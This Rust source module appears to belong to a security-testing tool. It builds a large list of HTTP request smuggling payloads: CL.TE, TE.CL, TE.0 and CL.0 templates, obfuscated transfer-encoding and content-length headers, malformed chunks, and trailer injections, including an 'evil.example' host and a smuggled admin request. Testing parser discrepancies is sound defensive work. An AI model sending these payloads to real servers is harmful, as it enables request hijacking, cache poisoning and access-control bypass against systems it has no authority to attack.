//! Where a body ends: two lengths, odd lengths, odd codings, odd chunks.

use super::attacks::Attack;

pub(crate) fn all() -> Vec<Attack> {
    let mut all = two_lengths();
    all.extend(CODINGS.iter().flat_map(|(name, field)| coding(name, field)));
    all.extend(LENGTHS.iter().map(|(name, field)| length(name, field)));
    all.extend(no_length());
    all.extend(CHUNKS.iter().map(|(name, body)| chunks(name, body)));
    all.extend(TRAILERS.iter().map(|(name, field)| trailer(name, field)));
    all
}

fn two_lengths() -> Vec<Attack> {
    let case = |name, why, text| Attack::text(name, why, text);
    vec![
        case(
            "CL.TE",
            "who reads the coding ends at its last chunk, who reads the length does not",
            "{raw}content-length: {len+5}\r\n{coded}\r\n0\r\n\r\n{smuggled}",
        ),
        case(
            "CL.TE, coding first",
            "the same, for readers that keep the last",
            "{raw}{coded}content-length: {len+5}\r\n\r\n0\r\n\r\n{smuggled}",
        ),
        case(
            "TE.CL",
            "who reads the length ends in the middle of a chunk",
            "{raw}content-length: 4\r\n{coded}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ),
        case(
            "TE.CL, coding first",
            "the same, for readers that keep the last",
            "{raw}{coded}content-length: 4\r\n\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ),
        case(
            "TE.0",
            "who knows no coding reads no body",
            "{raw}{coded}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ),
        case(
            "coding and length zero",
            "the length says no body",
            "{raw}content-length: 0\r\n{coded}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ),
    ]
}

/// Codings that some take for `chunked` and some do not.
const CODINGS: &[(&str, &str)] = &[
    ("xchunked", "transfer-encoding: xchunked"),
    ("before a blank", "transfer-encoding : chunked"),
    ("behind a tab", "transfer-encoding:\tchunked"),
    ("behind a vertical tab", "transfer-encoding:\x0bchunked"),
    ("behind no blank", "transfer-encoding:chunked"),
    ("before a tab", "transfer-encoding: chunked\t"),
    ("in a folded line", "x: y\r\n transfer-encoding: chunked"),
    ("folded", "transfer-encoding:\r\n chunked"),
    ("folded by a tab", "transfer-encoding:\r\n\tchunked"),
    (
        "behind a bare line feed",
        "x: y\ntransfer-encoding: chunked",
    ),
    (
        "behind a bare carriage return",
        "x: y\rtransfer-encoding: chunked",
    ),
    (
        "before a bare carriage return",
        "transfer-encoding: chunked\rx: y",
    ),
    ("chunked, identity", "transfer-encoding: chunked, identity"),
    ("identity, chunked", "transfer-encoding: identity, chunked"),
    ("chunked, chunked", "transfer-encoding: chunked, chunked"),
    ("gzip, chunked", "transfer-encoding: gzip, chunked"),
    ("behind a comma", "transfer-encoding: ,chunked"),
    ("before a comma", "transfer-encoding: chunked,"),
    ("identity", "transfer-encoding: identity"),
    ("cow", "transfer-encoding: cow"),
    ("with a parameter", "transfer-encoding: chunked;q=1"),
    ("in quotes", "transfer-encoding: \"chunked\""),
    ("in capitals", "TRANSFER-ENCODING: CHUNKED"),
    (
        "twice",
        "transfer-encoding: chunked\r\ntransfer-encoding: chunked",
    ),
    (
        "undone by a second",
        "transfer-encoding: chunked\r\ntransfer-encoding: identity",
    ),
    (
        "redone by a second",
        "transfer-encoding: identity\r\ntransfer-encoding: chunked",
    ),
    (
        "then nonsense",
        "transfer-encoding: chunked\r\ntransfer-encoding: x",
    ),
    (
        "empty, then chunked",
        "transfer-encoding:\r\ntransfer-encoding: chunked",
    ),
    ("with an underscore", "transfer_encoding: chunked"),
    ("with NUL within", "transfer-encoding: chu\0nked"),
    ("with NUL behind its name", "transfer-encoding\0: chunked"),
    ("with a blank for the hyphen", "transfer encoding: chunked"),
    (
        "with a sign that lowers to k",
        "transfer-encoding: chun\u{212a}ed",
    ),
    ("as a content coding", "content-encoding: chunked"),
    ("as what is accepted", "te: chunked"),
    (
        "that its connection ends",
        "connection: transfer-encoding\r\ntransfer-encoding: chunked",
    ),
];

fn coding(name: &str, field: &str) -> [Attack; 2] {
    let why = "one reader takes this for a coding and another does not";
    let length = "content-length: {len+5}\r\n";
    let body = "\r\n0\r\n\r\n{smuggled}";
    [
        Attack::text(
            format!("length and coding {name}"),
            why,
            format!("{{raw}}{length}{field}\r\n{body}"),
        ),
        Attack::text(
            format!("coding {name}"),
            why,
            format!("{{raw}}{field}\r\n{body}"),
        ),
    ]
}

/// Lengths that some read as 5 or as none.
const LENGTHS: &[(&str, &str)] = &[
    ("with a plus", "content-length: +5"),
    ("in hex", "content-length: 0x5"),
    ("a list of two alike", "content-length: 5, 5"),
    ("a list of two", "content-length: 5, 6"),
    ("in two parts", "content-length: 5 6"),
    ("before a tab", "content-length: 5\t"),
    ("behind a tab", "content-length:\t5"),
    ("behind a vertical tab", "content-length: \x0b5"),
    ("negative", "content-length: -1"),
    ("a fraction", "content-length: 5.0"),
    ("with an exponent", "content-length: 5e0"),
    ("with a parameter", "content-length: 5;a"),
    ("behind zeros", "content-length: 00000000000000000000000005"),
    ("in octal", "content-length: 0o5"),
    ("empty", "content-length:"),
    ("in Arabic digits", "content-length: \u{665}"),
    ("with an underscore within", "content-length: 0_5"),
    (
        "beyond 64 bits by 5",
        "content-length: 18446744073709551621",
    ),
    ("beyond 32 bits by 5", "content-length: 4294967301"),
    ("with NUL", "content-length: 5\0"),
    ("in quotes", "content-length: \"5\""),
    ("before a blank", "content-length : 5"),
    ("with an underscore for the hyphen", "content_length: 5"),
    ("folded", "content-length:\r\n 5"),
    ("folded to more", "content-length: 5\r\n 0"),
    ("twice alike", "content-length: 5\r\ncontent-length: 5"),
    ("twice, then none", "content-length: 5\r\ncontent-length: 0"),
    (
        "twice, none first",
        "content-length: 0\r\ncontent-length: 5",
    ),
    (
        "twice, then all",
        "content-length: 5\r\ncontent-length: {len+5}",
    ),
    (
        "twice, all first",
        "content-length: {len+5}\r\ncontent-length: 5",
    ),
    ("behind a bare line feed", "x: y\ncontent-length: 5"),
    ("behind a bare carriage return", "x: y\rcontent-length: 5"),
    (
        "that its connection ends",
        "connection: content-length\r\ncontent-length: 5",
    ),
];

fn length(name: &str, field: &str) -> Attack {
    let why = "who reads another length finds a request in the body, or a body in a request";
    let text = format!("{{raw}}{field}\r\n\r\nxxxxx{{smuggled}}");
    Attack::text(format!("length {name}"), why, text)
}

fn no_length() -> Vec<Attack> {
    let why = "who expects no body takes it for the next request";
    let case = |name, text| Attack::text(name, why, text);
    vec![
        case(
            "CL.0 on GET",
            "{get}content-length: {len}\r\n\r\n{smuggled}",
        ),
        case(
            "CL.0 on HEAD",
            "{head}content-length: {len}\r\n\r\n{smuggled}",
        ),
        case(
            "CL.0 on DELETE",
            "{delete}content-length: {len}\r\n\r\n{smuggled}",
        ),
        case(
            "CL.0 on a form",
            "{form}content-length: {len}\r\n\r\n{smuggled}",
        ),
        case(
            "CL.0 on a raw body",
            "{raw}content-length: {len}\r\n\r\n{smuggled}",
        ),
        case("0.CL on POST", "{raw}content-length: 0\r\n\r\n{smuggled}"),
        case("0.CL on GET", "{get}content-length: 0\r\n\r\n{smuggled}"),
        case("POST without a length", "{raw}\r\n{smuggled}"),
        case("DELETE without a length", "{delete}\r\n{smuggled}"),
        case(
            "chunks on GET",
            "{get}{coded}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ),
        case(
            "chunks on HEAD",
            "{head}{coded}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
        ),
        case("no chunk on GET", "{get}{coded}\r\n0\r\n\r\n{smuggled}"),
        case(
            "body shorter than its length",
            "{raw}content-length: 9\r\n\r\nxxxxx",
        ),
        case(
            "body longer than its length",
            "{raw}content-length: 2\r\n\r\n{}{smuggled}",
        ),
        case(
            "line end behind a body",
            "{raw}content-length: 2\r\n\r\n{}\r\n{smuggled}",
        ),
        case(
            "form that holds a request",
            "{form}content-length: 14\r\n\r\na=%0D%0APOST+b{smuggled}",
        ),
        case(
            "JSON that holds a request",
            "{json}content-length: 22\r\n\r\n{\"a\":\"\\r\\n\\r\\nPOST /\"}{smuggled}",
        ),
    ]
}

/// Bodies in chunks that end elsewhere for another reader.
const CHUNKS: &[(&str, &str)] = &[
    ("with an extension", "2;a=b\r\n{}\r\n0\r\n\r\n{smuggled}"),
    (
        "with an extension in quotes",
        "2;a=\"\r\n\"\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "with an extension before a line feed",
        "2;\n{}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
    ),
    (
        "with an extension before a carriage return",
        "2;\r{}\r\n{hex}\r\n{smuggled}\r\n0\r\n\r\n",
    ),
    (
        "with a long extension",
        "2;LONG\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "with an extension on the last",
        "2\r\n{}\r\n0;a=b\r\n\r\n{smuggled}",
    ),
    ("with line feeds alone", "2\n{}\n0\n\n{smuggled}"),
    ("with carriage returns alone", "2\r{}\r0\r\r{smuggled}"),
    (
        "with a line feed behind the data",
        "2\r\n{}\n0\r\n\r\n{smuggled}",
    ),
    (
        "with a line feed behind the last",
        "2\r\n{}\r\n0\n\r\n{smuggled}",
    ),
    (
        "with a line feed at the end",
        "2\r\n{}\r\n0\r\n\n{smuggled}",
    ),
    ("without the last line end", "2\r\n{}\r\n0\r\n{smuggled}"),
    (
        "without a line end behind the data",
        "2\r\n{}0\r\n\r\n{smuggled}",
    ),
    (
        "with more data than size",
        "2\r\n{}xx\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "with two bytes for the line end",
        "2\r\n{}xx0\r\n\r\n{smuggled}",
    ),
    ("with less data than size", "9\r\n{}\r\n0\r\n\r\n{smuggled}"),
    ("without a size", "\r\n{}\r\n0\r\n\r\n{smuggled}"),
    ("of a negative size", "-2\r\n{}\r\n0\r\n\r\n{smuggled}"),
    ("of a size with a plus", "+2\r\n{}\r\n0\r\n\r\n{smuggled}"),
    ("of a size in 0x", "0x2\r\n{}\r\n0\r\n\r\n{smuggled}"),
    (
        "of a size behind a blank",
        " 2\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "of a size before a blank",
        "2 \r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    ("of a size before a tab", "2\t\r\n{}\r\n0\r\n\r\n{smuggled}"),
    (
        "of a size with an underscore",
        "0_2\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    ("of a size with NUL", "2\0\r\n{}\r\n0\r\n\r\n{smuggled}"),
    (
        "of a size in capitals behind zeros",
        "00000002\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "of a size behind many zeros",
        "00000000000000000002\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "of a size beyond 64 bits",
        "10000000000000002\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "of a size beyond 32 bits",
        "100000002\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "of the greatest size",
        "ffffffffffffffff\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "of a great size",
        "7fffffffffffffff\r\n{}\r\n0\r\n\r\n{smuggled}",
    ),
    ("of no number", "xyz\r\n{}\r\n0\r\n\r\n{smuggled}"),
    ("that never end", "2\r\n{}\r\n"),
    ("that end twice", "2\r\n{}\r\n0\r\n\r\n0\r\n\r\n{smuggled}"),
    (
        "whose last has many zeros",
        "2\r\n{}\r\n00000000\r\n\r\n{smuggled}",
    ),
    ("that hold a request", "{hex}\r\n{smuggled}\r\n0\r\n\r\n"),
    ("then a request", "2\r\n{}\r\n0\r\n\r\n{smuggled}"),
];

fn chunks(name: &str, body: &str) -> Attack {
    let why = "readers differ in what ends a chunk, and so in where the next request begins";
    Attack::text(
        format!("chunks {name}"),
        why,
        format!("{{raw}}{{coded}}\r\n{body}"),
    )
}

/// Fields behind the last chunk, which mean nothing there.
const TRAILERS: &[(&str, &str)] = &[
    ("a length", "content-length: {len}"),
    ("a coding", "transfer-encoding: chunked"),
    ("a host", "host: evil.example"),
    ("a credential", "authorization: Bearer agent"),
    ("a cookie", "cookie: a=b"),
    ("an override", "x-http-method-override: DELETE"),
    ("a folded line", "x: y\r\n z"),
    ("a name before a blank", "x : y"),
    ("a line that is none", "POST /admin/MARK HTTP/1.1"),
];

fn trailer(name: &str, field: &str) -> Attack {
    let why = "who merges trailers into the head reads another request";
    let text =
        format!("{{raw}}{{coded}}trailer: x\r\n\r\n2\r\n{{}}\r\n0\r\n{field}\r\n\r\n{{smuggled}}");
    Attack::text(format!("trailer with {name}"), why, text)
}
